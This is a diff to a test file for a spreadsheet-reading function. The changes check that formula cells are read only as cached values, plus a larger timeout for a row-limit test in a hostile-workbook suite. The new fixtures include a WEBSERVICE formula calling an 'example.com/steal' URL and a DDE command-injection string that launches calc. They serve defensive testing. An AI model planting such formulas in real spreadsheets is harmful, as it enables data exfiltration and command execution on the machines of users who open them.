@@ -108,19 +108,24 @@ describe('readWorkbook', () => {
 		expect(suggestColumns(read.table.headers)).toMatchObject({ customerId: 0, date: 1, amount: 2 });
 	});
 
-	test('reads a formula as its cached value and never its text', async () => {
+	test('reads a formula as its cached value, never its text, and evaluates nothing', async () => {
 		const read = await readOk(
 			workbook({
 				S: sheet([
 					['客户', '金额'],
 					['A', { v: 3, f: 'SUM(1,2)' }],
 					['B', { v: '=cmd', f: 'CONCAT("=","cmd")' }],
+					// Formulas that would reach outside (a web service, DDE): only the value Excel last saved is read.
+					['C', { v: 7, f: 'WEBSERVICE("http://example.com/steal")' }],
+					['D', { v: 8, f: "cmd|' /C calc'!A0" }],
 				]),
 			}),
 		);
 		expect(read.table.rows).toEqual([
 			['A', '3'],
 			['B', '=cmd'],
+			['C', '7'],
+			['D', '8'],
 		]);
 	});
 
@@ -190,7 +195,7 @@ describe('hostile workbooks', () => {
 		expect(problem.code).toBe('zipBomb');
 	});
 
-	test(`refuses a sheet of 1,000,000 rows (the limit is ${MAX_WORKBOOK_ROWS})`, async () => {
+	test(`refuses a sheet of 1,000,000 rows (the limit is ${MAX_WORKBOOK_ROWS})`, { timeout: 30_000 }, async () => {
 		const rows = '<row><c><v>1</v></c></row>'.repeat(1_000_000);
 		const zip = rawXlsx(`<worksheet><sheetData>${rows}</sheetData></worksheet>`, 1);
 		const problem = await problemOf(zip);
